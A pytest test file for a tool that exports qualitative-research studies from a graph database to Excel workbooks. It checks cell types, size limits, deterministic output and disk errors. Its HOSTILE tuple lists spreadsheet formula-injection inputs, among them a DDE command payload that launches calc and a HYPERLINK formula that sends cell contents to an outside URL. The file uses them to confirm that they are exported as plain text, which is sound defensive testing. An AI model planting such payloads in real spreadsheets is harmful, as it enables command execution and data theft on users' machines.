"""The workbook as Excel meets it: texts that are never formulas, cells within its bounds, the same bytes each time."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from graphmodel.database import Database
from graphmodel.errors import GraphmodelError
from graphmodel.export import Exported, export_study, workbook
from graphmodel.loading import load
from tests.graphmodel.export import sheets
from tests.graphmodel.export.full_disk import files_no_larger_than
from tests.small_study import QUOTABLE, make_study

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "{=1+1}",
    "<f>1+1</f>",
    "=1 & 2 < 3 > \" '",
    "http://example.org/",
    "_x003D_1+1",
    "12&Pages\x01",
    "1e5",
    " two  blanks ",
)
"""Texts that a spreadsheet may take for something else, and that are to be read back as they are."""
RENAME = "MATCH (c:Concept {study: 'small', name: 'Like a friend'}) SET c.name = $text"
DEFINE = "MATCH (c:Concept {study: 'small', name: 'Disclosure'}) SET c.definition = $text"
MEMO = "MATCH (m:Memo {study: 'small'}) SET m.text = $text, m.title = $text"
NOTE = "MATCH (:Excerpt {study: 'small'})-[put:CODED_AS]->() SET put.note = $text"
WORDS = "MATCH (e:Excerpt {study: 'small', text: $now}) SET e.text = $text"
ATTRIBUTE = "MATCH (s:Study {id: 'small'}) SET s.attributes = [$text + ': text']"
NOTICE = "MATCH (s:Study {key: 'small'}) SET s.notice = $text, s.attributes = [$header]"


@pytest.fixture
def small(graph: Database, tmp_path: Path) -> Database:
    load(graph, [make_study(tmp_path / "small")])
    return graph


def change(graph: Database, statement: Any, **parameters: Any) -> None:
    graph.write(lambda tx: tx.run(statement, parameters).consume())


def exported(graph: Database, folder: Path) -> tuple[Exported, Path]:
    path = folder / "small.xlsx"
    return export_study(graph, "small", path, overwrite=True), path


def parts(path: Path) -> Iterator[tuple[str, etree._Element]]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            yield name, etree.fromstring(archive.read(name))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_a_text_whatever_it_begins_with(small: Database, tmp_path: Path, text: str) -> None:
    change(small, WORDS, now=QUOTABLE, text=text)
    for statement in (RENAME, DEFINE, MEMO, NOTE):
        change(small, statement, text=text)
    change(small, NOTICE, text=text, header=f"{text}: text")
    _, path = exported(small, tmp_path)
    formulas = [name for name, root in parts(path) if root.xpath("//*[local-name()='f' or local-name()='hyperlink']")]
    assert formulas == []
    read = sheets.workbook(path)
    quote = next(row for row in read["quotes"] if row["Code"] == text)
    assert (quote["Quote"], quote["Note"]) == (text, text)
    assert text in [row["Definition"] for row in read["codebook"]]
    assert [(row["Title"], row["Text"]) for row in read["memos"]] == [(text, text)]
    assert text in read["participants"][0]
    assert {cell.data_type for sheet in load_workbook(path) for row in sheet for cell in row} <= {"s", "n"}


def test_a_cell_that_begins_like_a_formula_stays_a_text_when_it_is_edited(small: Database, tmp_path: Path) -> None:
    change(small, RENAME, text="=1+1")
    book = load_workbook(exported(small, tmp_path)[1])
    prefixed = {
        cell.value: cell.quotePrefix for row in book["codebook"].iter_rows(min_row=2, max_col=1) for cell in row
    }
    assert prefixed == {name: name == "=1+1" for name in prefixed}
    assert True in prefixed.values()


@pytest.mark.parametrize(
    "text", ["a\x00b\x01c", "a\ufffeb\uffffc", "a\x0bb\x1fc", "line\r\nline\rline\nline", "\x85\u2028"]
)
def test_characters_that_xml_does_not_hold_do_not_break_it(small: Database, tmp_path: Path, text: str) -> None:
    change(small, DEFINE, text=text)
    done, path = exported(small, tmp_path)
    assert all(root is not None for _, root in parts(path))
    lost = sum(character in "\ufffe\uffff" for character in text)
    assert done.no_place.get("characters that no workbook holds, shown as \N{REPLACEMENT CHARACTER}", 0) == lost
    definitions = [
        cell.value for row in load_workbook(path)["codebook"].iter_rows(min_col=5, max_col=5) for cell in row
    ]
    assert any(definition and definition.startswith(text[0]) for definition in definitions)


@pytest.mark.parametrize(
    ("text", "cut"), [("a" * 32_767, 0), ("a" * 32_768, 1), ("🚣" * 16_383, 0), ("🚣" * 16_384, 1)]
)
def test_a_text_longer_than_a_cell_is_cut_with_a_note_and_counted(
    small: Database, tmp_path: Path, text: str, cut: int
) -> None:
    change(small, DEFINE, text=text)
    done, path = exported(small, tmp_path)
    definition = next(row["Definition"] for row in sheets.workbook(path)["codebook"] if row["Code"] == "Disclosure")
    assert len(definition.encode("utf-16-le")) // 2 <= workbook.MOST_CHARACTERS
    ends = {what: number for what, number in done.no_place.items() if what.startswith("ends of texts")}
    assert sum(ends.values()) == cut
    assert definition.endswith(workbook.CUT) == bool(cut)
    kept = definition.removesuffix(workbook.CUT)
    assert text.startswith(kept)
    assert len(text) - len(kept) <= 60 * cut
    assert [row for row in sheets.workbook(path)["about"] if row["What"] in ends] != [] or not cut


def test_rows_that_a_sheet_does_not_hold_go_on_in_another(
    small: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = sheets.workbook(exported(small, tmp_path)[1])["codebook"]
    monkeypatch.setattr(workbook, "MOST_ROWS", 3)
    done, path = exported(small, tmp_path)
    read = sheets.workbook(path)
    assert whole == [row for name, rows in read.items() if name.startswith("codebook") for row in rows]
    assert done.counts["codes"] == len(whole) == 6
    assert all(len(rows) <= 2 for name, rows in read.items() if not name.startswith("about"))


def test_columns_that_a_sheet_does_not_hold_are_counted(
    small: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_COLUMNS", 16)
    done, path = exported(small, tmp_path)
    read = sheets.workbook(path)
    assert all(len(row) <= 16 for rows in read.values() for row in rows)
    assert done.no_place["columns beyond those that a sheet holds"] > 3


def test_the_same_study_gives_the_same_bytes(small: Database, tmp_path: Path) -> None:
    first = exported(small, tmp_path)[1].read_bytes()
    assert exported(small, tmp_path)[1].read_bytes() == first


def test_each_sheet_is_set_out_for_reading(small: Database, tmp_path: Path) -> None:
    for sheet in load_workbook(exported(small, tmp_path)[1]):
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(max(sheet.max_row, 1), sheet.max_column).coordinate}"
        assert all(cell.font.bold for cell in sheet[1])
        assert all(cell.alignment.wrap_text for row in sheet for cell in row if cell.value is not None)
        assert sheet.page_setup.orientation == "landscape"
        assert "Made up for tests." in sheet.oddFooter.left.text


def test_an_attribute_called_as_a_column_is_a_column_of_its_own(small: Database, tmp_path: Path) -> None:
    change(small, "MATCH (s:Study {key: 'small'}) SET s.attributes = ['codes: number']")
    change(small, "MATCH (p:Participant {study: 'small', name: 'P01'}) SET p.attr_codes = 0.5")
    people = sheets.by(sheets.workbook(exported(small, tmp_path)[1])["participants"], "Participant")
    assert (people["P01"]["Codes"], people["P01"]["codes (attribute)"]) == (2, 0.5)


@pytest.mark.parametrize(("value", "shown"), [(12, 12), (14.0, 14), (-1.5, -1.5), ("007", "007"), ("1e5", "1e5")])
def test_a_number_is_one_where_the_graph_has_one(
    small: Database, tmp_path: Path, value: int | float | str, shown: int | float | str
) -> None:
    change(small, "MATCH (s:Study {key: 'small'}) SET s.attributes = ['age: number']")
    change(small, "MATCH (p:Participant {study: 'small', name: 'P01'}) SET p.attr_age = $value", value=value)
    people = sheets.by(sheets.workbook(exported(small, tmp_path)[1])["participants"], "Participant")
    assert people["P01"]["age"] == shown


def test_numbers_are_numbers_and_dates_texts(small: Database, tmp_path: Path) -> None:
    book = load_workbook(exported(small, tmp_path)[1])
    for header, kind in (("Start", "n"), ("End", "n"), ("Date", "s"), ("Participant", "s")):
        assert {cell.data_type for cell in column(book["quotes"], header)} == {kind}
    assert {cell.data_type for cell in column(book["codebook"], "Excerpts, with all below")} == {"n"}


def column(sheet: Worksheet, header: str) -> list[Any]:
    place = [cell.value for cell in sheet[1]].index(header)
    return [row[place] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("bound", [0, 9_000, 40_000])
def test_a_full_disk_is_told_and_nothing_is_left(small: Database, tmp_path: Path, bound: int) -> None:
    chance = random.Random(1)
    change(small, MEMO, text="".join(chance.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=30_000)))
    with files_no_larger_than(bound), pytest.raises(GraphmodelError, match="cannot write"):
        export_study(small, "small", tmp_path / "full.xlsx")
    assert [each.name for each in tmp_path.iterdir()] == ["small"]


def test_no_file_is_replaced_unasked_and_nothing_is_left_where_none_can_be_made(
    small: Database, tmp_path: Path
) -> None:
    path = tmp_path / "mine.xlsx"
    path.write_text("mine")
    with pytest.raises(GraphmodelError, match="is there already"):
        export_study(small, "small", path)
    with pytest.raises(GraphmodelError, match="cannot write"):
        export_study(small, "small", tmp_path / "nowhere" / "small.xlsx")
    assert path.read_text() == "mine"
    assert {each.name for each in tmp_path.iterdir()} == {"mine.xlsx", "small"}
